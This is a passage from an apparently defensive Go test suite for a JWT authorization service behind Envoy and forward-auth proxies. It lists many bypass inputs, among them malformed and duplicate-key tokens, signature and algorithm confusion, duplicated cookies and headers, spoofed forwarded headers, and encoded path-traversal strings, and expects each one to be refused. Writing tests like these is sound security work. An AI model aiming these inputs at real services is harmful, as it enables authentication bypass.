		attackCase{name: "iss twice, the first ours", token: a.sign(t, a.es, obj("iss", a.iss, "iss", "https://evil.example", "aud", "api", "exp", exp)), want: "malformed"},
	)
	return cs
}

// encodingCases break the compact serialization or the JSON inside it,
// around a correct signature over the exact bytes sent.
func (a *attackEnv) encodingCases(t *testing.T) []attackCase {
	h, p := hdr("ES256", a.es), a.claims()
	valid := signRaw(t, a.es, "ES256", h, p)
	segs := strings.Split(valid, ".")
	hs, ps, ss := segs[0], segs[1], segs[2]
	// signSegs signs the segments exactly as given, however they are encoded.
	signSegs := func(hseg, pseg string) string {
		return hseg + "." + pseg + "." + sigOf(t, a.es, "ES256", hseg+"."+pseg)
	}
	std := base64.StdEncoding.EncodeToString
	urlSig := valid
	for !strings.ContainsAny(urlSig[strings.LastIndexByte(urlSig, '.'):], "-_") {
		urlSig = signRaw(t, a.es, "ES256", h, p) // ECDSA is randomized: find a signature using - or _
	}
	dot := strings.LastIndexByte(urlSig, '.')
	oddHeader := h // a header whose base64url leaves unused bits
	for len(b64(oddHeader))%4 == 0 {
		oddHeader = strings.TrimSuffix(oddHeader, "}") + " }"
	}
	cs := []attackCase{
		{name: "control: the exact bytes signed", token: valid, want: "ok"},
		{name: "padding on the header", token: signSegs(hs+"=", ps), want: "malformed"},
		{name: "padding on every segment", token: std([]byte(h)) + "." + std([]byte(p)) + "." + ss + "==", want: "malformed"},
		{name: "padding on the signature", token: valid + "==", want: "malformed"},
		{name: "standard base64 (padded) throughout", token: signSegs(std([]byte(h)), std([]byte(p))), want: "malformed"},
		{name: "standard base64 alphabet in the signature", token: urlSig[:dot+1] + strings.NewReplacer("-", "+", "_", "/").Replace(urlSig[dot+1:]), want: "malformed"},
		{name: "non-canonical base64url in the header", token: signSegs(nonCanonical(b64(oddHeader)), ps), want: "malformed"},
		{name: "non-canonical base64url in the signature", token: hs + "." + ps + "." + nonCanonical(ss), want: "malformed"},
		{name: "five segments (JWE-shaped)", token: b64(obj("alg", "RSA-OAEP", "enc", "A256GCM", "kid", a.es.KID)) + ".ZW5jcnlwdGVka2V5.aXY." + ps + ".dGFn", want: "malformed"},
		{name: "four segments", token: valid + "." + ss, want: "malformed"},
		{name: "two segments", token: hs + "." + ps, want: "malformed"},
		{name: "one segment", token: hs, want: "malformed"},
		{name: "empty header segment", token: "." + ps + "." + ss, want: "malformed"},
		{name: "empty payload segment", token: hs + ".." + ss, want: "malformed"},
		{name: "empty signature segment", token: hs + "." + ps + ".", want: "malformed"},
		{name: "only dots", token: "..", want: "malformed"},
		{name: "a trailing dot", token: valid + ".", want: "malformed"},
		{name: "trailing base64 after the signature", token: valid + "AA", want: "bad_signature"},
		{name: "trailing data after the header JSON", token: signRaw(t, a.es, "ES256", h+`{"alg":"none"}`, p), want: "malformed"},
		{name: "trailing data after the payload JSON", token: signRaw(t, a.es, "ES256", h, p+"x"), want: "malformed"},
		{name: "two payload objects", token: signRaw(t, a.es, "ES256", h, p+a.claims("sub", "admin")), want: "malformed"},
		{name: "a space inside the token", token: hs + ". " + ps + "." + ss, want: "malformed"},
		{name: "a tab inside the token", token: hs + "\t." + ps + "." + ss, want: "malformed"},
		{name: "a newline inside the token", token: hs + "." + ps + "\n." + ss, want: "malformed"},
		{name: "CRLF inside the token", token: hs + "." + ps + "\r\n." + ss, want: "malformed"},
		{name: "a NUL inside the token", token: hs + "." + ps + "\x00." + ss, want: "malformed"},
		{name: "percent-encoding inside the token", token: hs + "%2E" + ps + "." + ss, want: "malformed"},
		{name: "control: whitespace around the token is trimmed", auth: "Bearer   " + valid + "  ", want: "ok"},
		{name: "duplicate alg in the header", token: signRaw(t, a.es, "ES256", obj("alg", "ES256", "kid", a.es.KID, "alg", "none"), p), want: "malformed"},
		{name: "duplicate alg, the first none", token: signRaw(t, a.es, "ES256", obj("alg", "none", "kid", a.es.KID, "alg", "ES256"), p), want: "malformed"},
		{name: "duplicate kid in the header", token: signRaw(t, a.es, "ES256", obj("alg", "ES256", "kid", "nope", "kid", a.es.KID), p), want: "malformed"},
		{name: "duplicate alg spelled with an escape", token: signRaw(t, a.es, "ES256", `{"alg":"ES256","kid":"`+a.es.KID+`","\u0061lg":"HS256"}`, p), want: "malformed"},
		{name: "duplicate sub in the payload", token: signRaw(t, a.es, "ES256", h, strings.TrimSuffix(p, "}")+`,"sub":"admin"}`), want: "malformed"},
		{name: "duplicate exp in the payload", token: signRaw(t, a.es, "ES256", h, strings.TrimSuffix(p, "}")+`,"exp":99999999999}`), want: "malformed"},
		{name: "duplicate aud spelled with an escape", token: signRaw(t, a.es, "ES256", h, strings.TrimSuffix(p, "}")+`,"\u0061ud":"web"}`), want: "malformed"},
		{name: "invalid UTF-8 in the header", token: signRaw(t, a.es, "ES256", `{"alg":"ES256","kid":"`+a.es.KID+`","x":"`+"\xff"+`"}`, p), want: "malformed"},
		{name: "invalid UTF-8 in the payload", token: signRaw(t, a.es, "ES256", h, a.claims("sub", rawJSON("\"adm\xc3\x28in\""))), want: "malformed"},
		{name: "overlong UTF-8 in the payload", token: signRaw(t, a.es, "ES256", h, a.claims("sub", rawJSON("\"\xc0\xafadmin\""))), want: "malformed"},
		{name: "UTF-8-encoded surrogate in the payload", token: signRaw(t, a.es, "ES256", h, a.claims("sub", rawJSON("\"\xed\xa0\x80\""))), want: "malformed"},
		{name: "a byte-order mark before the payload", token: signRaw(t, a.es, "ES256", h, "\ufeff"+p), want: "malformed"},
		{name: "a comment in the payload", token: signRaw(t, a.es, "ES256", h, "/* x */"+p), want: "malformed"},
		{name: "single-quoted JSON in the header", token: signRaw(t, a.es, "ES256", strings.ReplaceAll(h, `"`, `'`), p), want: "malformed"},
	}
	for _, nonObject := range []string{`[]`, `"ES256"`, `256`, `null`, `true`, `[` + h + `]`} {
		cs = append(cs,
			attackCase{name: "header JSON " + truncate(nonObject), token: signRaw(t, a.es, "ES256", nonObject, p), want: "malformed"},
			attackCase{name: "payload JSON " + truncate(nonObject), token: signRaw(t, a.es, "ES256", h, nonObject), want: "malformed"},
		)
	}
	return cs
}

// signatureCases keep the header and payload of a valid token and change
// how, or with what, it is signed.
func (a *attackEnv) signatureCases(t *testing.T) []attackCase {
	es := a.sign(t, a.es, a.claims())
	v := ecdsaVariants(t, es)
	rs := a.sign(t, a.rs, a.claims())
	rsSig := sigBytes(t, rs)
	ed := a.sign(t, a.ed, a.claims())
	edSig := sigBytes(t, ed)
	flipped := append([]byte{}, edSig...)
	flipped[10] ^= 1
	other := a.sign(t, a.es, a.claims("sub", "admin"))
	input := func(tok string) string { return tok[:strings.LastIndexByte(tok, '.')] }
	return []attackCase{
		{name: "ES256 signature in DER instead of R||S", token: v["der"], want: "bad_signature"},
		{name: "ES256 signature one byte short", token: v["short"], want: "bad_signature"},
		{name: "ES256 signature one byte long", token: v["long"], want: "bad_signature"},
		{name: "ES256 signature all zeros", token: v["zeros"], want: "bad_signature"},
		{name: "ES256 signature with s = 0", token: v["sIsZero"], want: "bad_signature"},
		{name: "ES256 signature with s = n", token: v["sIsN"], want: "bad_signature"},
		{name: "ES256 signature with r and s swapped", token: v["swapped"], want: "bad_signature"},
		// (r, n-s) is as valid as (r, s): ECDSA is malleable and RFC 7518
		// does not ask for low S. Refusing high S would refuse about half of
		// honest tokens (Go's crypto/ecdsa and OpenSSL do not normalize S).
		// The twin carries the IdP's claims unchanged; see SECURITY.md.
		{name: "control: ES256 high-S twin of a valid signature is accepted", token: v["highS"], want: "ok"},
		{name: "RSA signature one byte short", token: withSig(rs, rsSig[1:]), want: "bad_signature"},
		{name: "RSA signature with a zero byte prepended", token: withSig(rs, append([]byte{0}, rsSig...)), want: "bad_signature"},
		{name: "RSA signature twice as long", token: withSig(rs, append(append([]byte{}, rsSig...), rsSig...)), want: "bad_signature"},
		{name: "RSA signature of zeros", token: withSig(rs, make([]byte, len(rsSig))), want: "bad_signature"},
		{name: "RSA signature a single byte", token: withSig(rs, []byte{1}), want: "bad_signature"},
		{name: "Ed25519 signature with a flipped bit", token: withSig(ed, flipped), want: "bad_signature"},
		{name: "Ed25519 signature truncated", token: withSig(ed, edSig[:63]), want: "bad_signature"},
		{name: "signature of another token (transplant)", token: withSig(other, sigBytes(t, es)), want: "bad_signature"},
		{name: "signature over the payload alone", token: input(es) + "." + sigOf(t, a.es, "ES256", b64(a.claims())), want: "bad_signature"},
		{name: "signature over the decoded JSON", token: input(es) + "." + sigOf(t, a.es, "ES256", hdr("ES256", a.es)+"."+a.claims()), want: "bad_signature"},
		{name: "PS256 with the RS256 key (JWK alg RS256)", token: signRaw(t, a.rs, "PS256", hdr("PS256", a.rs), a.claims()), want: "key_mismatch"},
		{name: "RS256 with the PS256 key (JWK alg PS256)", token: signRaw(t, a.ps, "RS256", hdr("RS256", a.ps), a.claims()), want: "key_mismatch"},
		{name: "EdDSA header naming the ES256 key", token: signRaw(t, a.ed, "EdDSA", hdr("EdDSA", a.es), a.claims()), want: "key_mismatch"},
		{name: "ES256 header naming the Ed25519 key", token: signRaw(t, a.es, "ES256", hdr("ES256", a.ed), a.claims()), want: "key_mismatch"},
		{name: "RS256 header naming the ES256 key", token: signRaw(t, a.rs, "RS256", hdr("RS256", a.es), a.claims()), want: "key_mismatch"},
		{name: "header PS256, signature RS256, key with JWK alg PS256", token: signRaw(t, a.ps, "RS256", hdr("PS256", a.ps), a.claims()), want: "bad_signature"},
		// The second provider's JWKs name no alg: the key's type decides.
		{name: "no JWK alg: ES256 header naming an RSA key", token: signRaw(t, a.otherRSA, "RS256", hdr("ES256", a.otherRSA), a.claims("iss", a.otherIss)), want: "bad_signature"},
		{name: "no JWK alg: EdDSA header naming an EC key", token: signRaw(t, a.other, "ES256", hdr("EdDSA", a.other), a.claims("iss", a.otherIss)), want: "bad_signature"},
		{name: "no JWK alg: RS256 header, PS256 signature", token: signRaw(t, a.otherRSA, "PS256", hdr("RS256", a.otherRSA), a.claims("iss", a.otherIss)), want: "bad_signature"},
		{name: "control: no JWK alg: PS256 with an RSA key", token: signRaw(t, a.otherRSA, "PS256", hdr("PS256", a.otherRSA), a.claims("iss", a.otherIss)), want: "ok"},
	}
}

// headerCases are about the authorization header and the CheckRequest.
func (a *attackEnv) headerCases(t *testing.T) []attackCase {
	valid := a.sign(t, a.es, a.claims())
	forged := a.sign(t, a.attacker, a.claims())
	max := authz.DefaultMaxTokenSize
	bigValid := a.sign(t, a.es, a.claims("pad", strings.Repeat("p", max)))
	headerMap := func(auths ...string) func(testing.TB) *authv3.CheckRequest {
		return func(t testing.TB) *authv3.CheckRequest {
			req := browserRequest(t, "", "")
			h := req.Attributes.Request.Http
			hm := &corev3.HeaderMap{}
			for k, v := range h.Headers {
				hm.Headers = append(hm.Headers, &corev3.HeaderValue{Key: k, Value: v})
			}
			for _, v := range auths {
				hm.Headers = append(hm.Headers, &corev3.HeaderValue{Key: "Authorization", RawValue: []byte(v)})
			}
			h.Headers, h.HeaderMap = nil, hm
			return req
		}
	}
	capitalized := func(t testing.TB) *authv3.CheckRequest {
		req := browserRequest(t, "", "")
		req.Attributes.Request.Http.Headers["Authorization"] = "Bearer " + valid
		return req
	}
	return []attackCase{
		{name: "control: header_map with one authorization", req: headerMap("Bearer " + valid), want: "ok"},
		{name: "two authorization values joined by Envoy", auth: "Bearer " + valid + ",Bearer " + valid, want: "malformed"},
		{name: "two authorization values, a forged one first", auth: "Bearer " + forged + ", Bearer " + valid, want: "malformed"},
		{name: "header_map with two authorization headers", req: headerMap("Bearer "+valid, "Bearer "+valid), want: "malformed"},
		{name: "header_map with a forged and a valid authorization", req: headerMap("Bearer "+forged, "Bearer "+valid), want: "malformed"},
		{name: "Authorization not lower-cased in headers (Envoy never sends it)", req: capitalized, want: "no_token"},
		{name: "Bearer without a token", auth: "Bearer", want: "no_token"},
		{name: "Bearer and a space", auth: "Bearer ", want: "no_token"},
		{name: "Bearer and a tab before the token", auth: "Bearer\t" + valid, want: "no_token"},
		{name: "Bearer: with a colon", auth: "Bearer:" + valid, want: "no_token"},
		{name: "a space before the scheme", auth: " Bearer " + valid, want: "no_token"},
		{name: "Bearer twice", auth: "Bearer Bearer " + valid, want: "malformed"},
		{name: "Basic scheme", auth: "Basic dXNlcjpwYXNz", want: "no_token"},
		{name: "JWT scheme", auth: "JWT " + valid, want: "no_token"},
		{name: "token without a scheme", auth: valid, want: "no_token"},
		{name: "token over the size limit", auth: "Bearer " + valid + strings.Repeat("A", max), want: "token_too_large"},
		{name: "validly signed token over the size limit", auth: "Bearer " + bigValid, want: "token_too_large"},
		{name: "garbage one byte over the size limit", auth: "Bearer " + strings.Repeat("x", max+1), want: "token_too_large"},
		{name: "garbage at the size limit is parsed (and malformed)", auth: "Bearer " + strings.Repeat("x", max), want: "malformed"},
		{name: "a 60 KiB token (a larger one passes the header bytes bound: 431)", auth: "Bearer " + strings.Repeat("eyJh", 15<<10), want: "token_too_large"},
	}
}

// TestForwardAuthOriginHeaders: forward-auth learns the original request
// from headers. A client may send any of them; a proxy sets some. Whatever
// a client adds must not turn a protected request into a public one.
func TestForwardAuthOriginHeaders(t *testing.T) {
	e := newEnv(t, nil, withConfig(func(c *authz.Config, _ *authz.ProviderConfig) {
		c.Rules = []authz.RuleConfig{
			{Match: authz.Match{PathPrefix: "/public"}, Action: authz.ActionAllow},
			{Match: authz.Match{Methods: []string{"OPTIONS"}}, Action: authz.ActionAllow}, // CORS preflights
		}
	}))
	fa := httptest.NewServer(forwardauth.New(e.eng))
	defer fa.Close()
	tests := []struct {
		name    string
		headers [][2]string // in order; a name twice sends two values
		want    int
	}{
		{name: "control: protected path", headers: [][2]string{{"X-Forwarded-Uri", "/admin"}}, want: 401},
		{name: "control: public path", headers: [][2]string{{"X-Forwarded-Uri", "/public/x"}}, want: 200},
		{name: "control: X-Original-URI alone (nginx docs)", headers: [][2]string{{"X-Original-URI", "/admin"}}, want: 401},
		{name: "client X-Forwarded-Uri appended after the proxy's: ambiguous", headers: [][2]string{{"X-Forwarded-Uri", "/admin"}, {"X-Forwarded-Uri", "/public/x"}}, want: 400},
		// nginx's $request_uri is not normalised, and proxy_pass without a
		// URI sends it to the app as is: a path whose rule changes when its
		// dot segments are resolved is refused.
		{name: "dot segments out of the public prefix", headers: [][2]string{{"X-Forwarded-Uri", "/public/../admin"}}, want: 400},
		{name: "encoded dot segments out of the public prefix", headers: [][2]string{{"X-Forwarded-Uri", "/public/%2e%2e/admin"}}, want: 400},
		// Once a bug: forwardedRequest preferred X-Forwarded-Uri, so a
		// client's overrode the X-Original-URI an nginx auth_request setup
		// sets (nginx forwards the client's other headers to the
		// subrequest): 200 for /admin.
		{name: "proxy sets X-Original-URI, client adds X-Forwarded-Uri: ambiguous", headers: [][2]string{{"X-Original-URI", "/admin"}, {"X-Forwarded-Uri", "/public/x"}}, want: 400},
		{name: "control: preflight", headers: [][2]string{{"X-Forwarded-Method", "OPTIONS"}, {"X-Forwarded-Uri", "/admin"}}, want: 200},
		{name: "both families agreeing", headers: [][2]string{{"X-Forwarded-Uri", "/public/x"}, {"X-Original-URI", "/public/x"}}, want: 200},
		{name: "encoded slash: read differently by different servers", headers: [][2]string{{"X-Forwarded-Uri", "/public%2F..%2Fadmin"}}, want: 400},
		{name: "a backslash", headers: [][2]string{{"X-Forwarded-Uri", "/public\\..\\admin"}}, want: 400},
		{name: "client X-Forwarded-Host appended after the proxy's: ambiguous", headers: [][2]string{{"X-Forwarded-Host", "a"}, {"X-Forwarded-Host", "b"}, {"X-Forwarded-Uri", "/public/x"}}, want: 400},
		// Once the same bug for the method: a client's X-Forwarded-Method:
		// OPTIONS overrode X-Original-Method and matched a preflight rule.
		{name: "proxy sets X-Original-Method, client adds X-Forwarded-Method: ambiguous", headers: [][2]string{{"X-Original-URI", "/admin"}, {"X-Original-Method", "DELETE"}, {"X-Forwarded-Method", "OPTIONS"}}, want: 400},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			req, _ := http.NewRequest(http.MethodGet, fa.URL+"/auth", nil)
			for _, h := range tt.headers {
				req.Header.Add(h[0], h[1])
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != tt.want {
				t.Fatalf("status %d, want %d", resp.StatusCode, tt.want)
			}
		})
	}
}

// TestSharedDecisionKeepsTheRequestsOwnCookies: a decision shared through
// the x-request-id dedup must not carry another request's headers. With
// forward_token: false and a cookie source, an allow rewrites the cookie
// header; a twin request (same id, token and route) with other cookies must
// get its own cookies back, not the first request's.
func TestSharedDecisionKeepsTheRequestsOwnCookies(t *testing.T) {
	e := newEnv(t, nil, withConfig(func(c *authz.Config, p *authz.ProviderConfig) {
		p.TokenSources = []authz.TokenSource{{Cookie: "__session"}}
		p.DropToken = true
		c.CacheSize = 1
	}))
	tok := e.token(nil)
	send := func(cookie, id string) *authv3.CheckResponse {
		req := browserRequest(t, "", id)
		req.Attributes.Request.Http.Headers["cookie"] = cookie
		return e.send(req)
	}
	send("__session="+tok+"; csrf=first", "req-1")
	send("__session="+e.token(jwt.MapClaims{"sub": "user_2"}), "") // evicts tok's grant
	resp := send("__session="+tok+"; csrf=second", "req-1")
	if got := okHeaders(resp)["cookie"]; got != "csrf=second" {
		t.Fatalf("cookie header set to %q, want %q", got, "csrf=second")
	}
}

// tokenSourceCases are about a token cookie or query parameter that the
// request holds twice, or under a name some server reads as the source's:
// the request is ambiguous, and denied as malformed, whichever copy is the
// valid one, and although the valid token is in the token cache (the
// controls come first and put it there).
func (a *attackEnv) tokenSourceCases(t *testing.T) []attackCase {
	valid := a.sign(t, a.es, a.claims())
	forged := a.sign(t, a.attacker, a.claims())
	cookie := func(cookies ...string) func(testing.TB) *authv3.CheckRequest {
		return func(t testing.TB) *authv3.CheckRequest {
			req := browserRequest(t, "", "")
			h := req.Attributes.Request.Http
			if len(cookies) == 1 {
				h.Headers["cookie"] = cookies[0]
				return req
			}
			hm := &corev3.HeaderMap{} // cookie headers apart, as encode_raw_headers sends them
			for k, v := range h.Headers {
				if k != "cookie" {
					hm.Headers = append(hm.Headers, &corev3.HeaderValue{Key: k, Value: v})
				}
			}
			for _, c := range cookies {
				hm.Headers = append(hm.Headers, &corev3.HeaderValue{Key: "cookie", RawValue: []byte(c)})
			}
			h.Headers, h.HeaderMap = nil, hm
			return req
		}
	}
	query := func(q string) func(testing.TB) *authv3.CheckRequest {
		return func(t testing.TB) *authv3.CheckRequest {
			req := browserRequest(t, "", "")
			h := req.Attributes.Request.Http
			h.Path = "/v1/things?" + q
			h.Headers[":path"] = h.Path
			return req
		}
	}
	return []attackCase{
		{name: "control: one __session cookie", req: cookie("a=b; __session=" + valid + "; c=d"), want: "ok"},
		{name: "control: one access_token parameter", req: query("a=1&access_token=" + valid), want: "ok"},
		{name: "cookie twice, the valid one first", req: cookie("__session=" + valid + "; __session=" + forged), want: "malformed"},
		{name: "cookie twice, the forged one first", req: cookie("__session=" + forged + "; __session=" + valid), want: "malformed"},
		{name: "cookie twice, the same token", req: cookie("__session=" + valid + "; __session=" + valid), want: "malformed"},
		{name: "cookie with a space before =", req: cookie("__session=" + valid + "; __session =" + forged + "; a=b"), want: "malformed"},
		{name: "cookie with a no-break space before the name", req: cookie("__session=" + valid + "; \u00a0__session=" + forged), want: "malformed"},
		{name: "cookie name in upper case", req: cookie("__session=" + valid + "; __SESSION=" + forged), want: "malformed"},
		{name: "cookie name percent-encoded", req: cookie("__session=" + valid + "; %5F%5Fsession=" + forged), want: "malformed"},
		{name: "cookie name with an index", req: cookie("__session=" + valid + "; __session[]=" + forged), want: "malformed"},
		{name: "cookie after a comma (two cookie headers joined by Envoy)", req: cookie("__session=" + valid + ",__session=" + forged), want: "malformed"},
		{name: "header_map with two cookie headers", req: cookie("__session="+valid, "__session="+forged), want: "malformed"},
		{name: "the valid token under a variant cookie name alone", req: cookie("__Session=" + valid), want: "malformed"},
		{name: "parameter twice", req: query("access_token=" + valid + "&access_token=" + forged), want: "malformed"},
		{name: "parameter twice, the forged one first", req: query("access_token=" + forged + "&access_token=" + valid), want: "malformed"},
		{name: "parameter name percent-encoded", req: query("acc%65ss_token=" + forged + "&access_token=" + valid), want: "malformed"},
		{name: "parameter name in upper case", req: query("access_token=" + valid + "&ACCESS_TOKEN=" + forged), want: "malformed"},
		{name: "parameter name with a trailing +", req: query("access_token=" + valid + "&access_token+=" + forged), want: "malformed"},
		{name: "parameter name with a dot (PHP: _)", req: query("access_token=" + valid + "&access.token=" + forged), want: "malformed"},
		{name: "parameter name with an index", req: query("access_token=" + valid + "&access_token[]=" + forged), want: "malformed"},
		{name: "parameter after a semicolon", req: query("access_token=" + valid + ";access_token=" + forged), want: "malformed"},
		{name: "the valid token under a variant parameter name alone", req: query("acc%65ss_token=" + valid), want: "malformed"},
	}
}

// TestAttackSpoofedManagedHeaders: a valid token sent beside the client's
// own copy of a header jwtauthz sets upstream (identity, claim or payload
// header; any case, '_' for '-', empty, given twice) on a private and a
// public route. Over forward-auth it is refused 400 spoofed_header; over
// gRPC the allow overwrites or removes that header (Envoy applies both), so
// the client's copy never stays.
func TestAttackSpoofedManagedHeaders(t *testing.T) {
	a := newAttackEnvWith(t, func(c *authz.Config) {
		other := &c.Providers[len(c.Providers)-1] // what it manages, every provider's grants remove
		other.ClaimHeaders = map[string]string{"x-auth-user": "preferred_username"}
		other.PayloadHeader = "x-jwt-payload"
		c.Rules = []authz.RuleConfig{{Match: authz.Match{PathPrefix: "/public"}, Action: authz.ActionAllow}}
	})
	fa := httptest.NewServer(forwardauth.New(a.eng))
	defer fa.Close()
	valid := "Bearer " + a.sign(t, a.es, a.claims())
	cases := []struct {
		name, uri string
		header    [][2]string
		want      string // the managed header named, or "" for an allow
	}{
		{"control: valid token", "/v1/things", nil, ""},
		{"control: a client header jwtauthz does not set", "/v1/things", [][2]string{{"X-Auth-Role", "admin"}}, ""},
		{"claim header", "/v1/things", [][2]string{{"X-Auth-User", "root"}}, "x-auth-user"},
		{"claim header, lower case", "/v1/things", [][2]string{{"x-auth-user", "root"}}, "x-auth-user"},
		{"claim header, upper case", "/v1/things", [][2]string{{"X-AUTH-USER", "root"}}, "x-auth-user"},
		{"claim header, underscores", "/v1/things", [][2]string{{"x_auth_user", "root"}}, "x-auth-user"},
		{"claim header, empty", "/v1/things", [][2]string{{"X-Auth-User", ""}}, "x-auth-user"},
		{"claim header, twice", "/v1/things", [][2]string{{"X-Auth-User", "root"}, {"X-Auth-User", "root"}}, "x-auth-user"},
		{"subject", "/v1/things", [][2]string{{"X-Auth-Subject", "root"}}, "x-auth-subject"},
		{"issuer", "/v1/things", [][2]string{{"X-Auth-Issuer", a.iss}}, "x-auth-issuer"},
		{"payload header", "/v1/things", [][2]string{{"X-Jwt-Payload", b64(a.claims("sub", "root"))}}, "x-jwt-payload"},
		{"public route", "/public/x", [][2]string{{"X-Auth-User", "root"}}, "x-auth-user"},
		{"public route, subject", "/public/x", [][2]string{{"X-Auth-Subject", "root"}}, "x-auth-subject"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			req, _ := http.NewRequest(http.MethodGet, fa.URL+"/auth", nil)
			req.Header.Set("Authorization", valid)
			req.Header.Set("X-Forwarded-Uri", tc.uri)
			for _, h := range tc.header {
				req.Header[h[0]] = append(req.Header[h[0]], h[1])
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			var body map[string]string
			json.NewDecoder(resp.Body).Decode(&body)
			resp.Body.Close()
			switch {
			case tc.want == "" && resp.StatusCode != http.StatusOK:
				t.Fatalf("forward-auth: %d %v, want 200", resp.StatusCode, body)
			case tc.want == "":
			case resp.StatusCode != http.StatusBadRequest || resp.Header.Get("X-Auth-Subject") != "":
				t.Fatalf("forward-auth: %d (subject %q), want 400", resp.StatusCode, resp.Header.Get("X-Auth-Subject"))
			case body["error"] != "invalid_request" || !strings.HasSuffix(body["error_description"], ": "+tc.want):
				t.Fatalf("forward-auth body %v, want invalid_request naming %s", body, tc.want)
			}

			// gRPC: Envoy sends names in lower case and joins repeated
			// values; underscores its configs refuse before the check.
			if len(tc.header) == 0 || strings.Contains(tc.header[0][0], "_") {
				return
			}
			name := strings.ToLower(tc.header[0][0])
			greq := browserRequest(t, valid, "")
			greq.Attributes.Request.Http.Path = tc.uri
			greq.Attributes.Request.Http.Headers[name] = "root"
			g := a.send(greq)
			ok := g.GetOkResponse()
			if codes.Code(g.Status.Code) != codes.OK || ok == nil {
				t.Fatalf("grpc: %v %q, want an allow", codes.Code(g.Status.Code), g.Status.Message)
			}
			set := okHeaders(g)
			_, overwritten := set[name]
			removed := false
			for _, h := range ok.GetHeadersToRemove() {
				removed = removed || h == name
			}
			if tc.want != "" && !overwritten && !removed {
				t.Fatalf("grpc: the client's %s is neither overwritten nor removed: set %v, removed %v", name, set, ok.GetHeadersToRemove())
			}
			if v, ok := set[name]; ok && v == "root" {
				t.Fatalf("grpc: %s set to the client's value", name)
			}
		})
	}
}

// keylessCases are tokens without kid: each is checked against the keys of
// its provider's set whose type fits its alg and whose JWK alg, if any, is
// its alg (authz.MaxKeylessTries), whatever their order in the set.
func (a *attackEnv) keylessCases(t *testing.T) []attackCase {
	nokid := func(s *issuer.Signer, alg, payload string) string {
		return signRaw(t, s, alg, obj("alg", alg, "typ", "JWT"), payload)
	}
	return []attackCase{
		{name: "control: no kid, EdDSA, published key", token: nokid(a.ed, "EdDSA", a.claims()), want: "ok"},
		{name: "control: no kid, RS256, published key", token: nokid(a.rs, "RS256", a.claims()), want: "ok"},
		{name: "control: no kid, PS256, published key", token: nokid(a.ps, "PS256", a.claims()), want: "ok"},
		{name: "control: empty kid, EdDSA, published key", token: signRaw(t, a.ed, "EdDSA", obj("alg", "EdDSA", "kid", ""), a.claims()), want: "ok"},
		{name: "control: no kid, other provider's key, its JWK naming no alg", token: nokid(a.other, "ES256", a.claims("iss", a.otherIss)), want: "ok"},
		{name: "control: no kid, other provider's RSA key naming no alg, PS256", token: nokid(a.otherRSA, "PS256", a.claims("iss", a.otherIss)), want: "ok"},
		{name: "no kid, ES256, foreign key", token: nokid(a.attacker, "ES256", a.claims()), want: "bad_signature"},
		{name: "no kid, RS256, foreign key", token: nokid(a.attackerRS, "RS256", a.claims()), want: "bad_signature"},
		{name: "no kid, EdDSA, foreign key", token: nokid(issuer.MustSigner("EdDSA"), "EdDSA", a.claims()), want: "bad_signature"},
		{name: "no kid, RS256 by the key published for PS256", token: nokid(a.ps, "RS256", a.claims()), want: "bad_signature"},
		{name: "no kid, PS256 by the key published for RS256", token: nokid(a.rs, "PS256", a.claims()), want: "bad_signature"},
		{name: "no kid, ES384 (published, not allowed)", token: nokid(a.es384, "ES384", a.claims()), want: "alg_not_allowed"},
		{name: "no kid, published key, the other provider's iss", token: nokid(a.es, "ES256", a.claims("iss", a.otherIss)), want: "bad_signature"},
		{name: "no kid, published key, signature zeroed", token: withSig(nokid(a.es, "ES256", a.claims()), make([]byte, 64)), want: "bad_signature"},
		{name: "no kid, published key, expired", token: nokid(a.es, "ES256", a.claims("exp", a.now.Add(-time.Hour).Unix())), want: "expired"},
		{name: "no kid, HS256 with a published RSA key as the secret", token: signRaw(t, a.rs, "RS256", obj("alg", "HS256"), a.claims()), want: "alg_not_allowed"},
	}
}

// TestAttackBatteryPaths is the battery's part about the path: the
// battery's IdP and keys, with the rules of issue 17's report (/admin and
// /admin/ need the admin scope, /public/ is open) behind a catch-all allow,
// where a path that reached the wrong rule needs no token at all. Each path
// that an upstream may read as another rule's path (its case, a fragment,
// an escape left after decoding) must be refused 400 over gRPC (twice) and
// over forward-auth, with and without a valid token that lacks the scope;
// a valid token must keep passing afterwards.
func TestAttackBatteryPaths(t *testing.T) {
	a := newAttackEnvWith(t, func(c *authz.Config) {
		c.Rules = []authz.RuleConfig{
			{Match: authz.Match{Path: "/admin"}, Require: authz.Require{Scopes: []string{"admin"}}},
			{Match: authz.Match{PathPrefix: "/admin/"}, Require: authz.Require{Scopes: []string{"admin"}}},
			{Match: authz.Match{PathPrefix: "/public/"}, Action: authz.ActionAllow},
			{Action: authz.ActionAllow},
		}
	})
	fa := httptest.NewServer(forwardauth.New(a.eng))
	defer fa.Close()
	user := "Bearer " + a.sign(t, a.es, a.claims()) // valid, no admin scope
	admin := "Bearer " + a.sign(t, a.es, a.claims("scope", "admin"))
	tests := []struct {
		name, path string
		want       int // without a token; 400 also with one
	}{
		{name: "control: admin path", path: "/admin/x", want: 401},
		{name: "control: open path", path: "/v1/things", want: 200},
		{name: "prefix in upper case", path: "/ADMIN/x", want: 400},
		{name: "exact path in mixed case", path: "/Admin", want: 400},
		{name: "prefix in alternating case", path: "/aDmIn/x", want: 400},
		{name: "upper-case letter by escape", path: "/%41DMIN/x", want: 400},
		{name: "dotted capital I (lower case i)", path: "/ADM%C4%B0N", want: 400},
		{name: "dotless i (upper case I)", path: "/adm%C4%B1n/x", want: 400},
		{name: "upper case under dot segments", path: "/public/../ADMIN", want: 400},
		{name: "fragment", path: "/admin#x", want: 400},
		{name: "fragment after a slash", path: "/admin/#", want: 400},
		{name: "fragment hiding dot segments", path: "/public#/../admin", want: 400},
		{name: "control: a fragment in the query cannot change the path", path: "/public/x?a#/../../admin", want: 200},
		{name: "fragment before the query", path: "/admin#?x", want: 400},
		{name: "encoded #", path: "/admin%23x", want: 400},
		{name: "encoded ?", path: "/public/a%3F/../../admin", want: 400},
		{name: "double-encoded dot segments", path: "/public/%252e%252e/admin", want: 400},
		{name: "double-encoded slash", path: "/public/..%252fadmin", want: 400},
		{name: "triple-encoded dot segments", path: "/public/%25252e%25252e/admin", want: 400},
		{name: "control: an encoded percent sign", path: "/public/100%25", want: 200},
	}
	for _, tt := range tests {
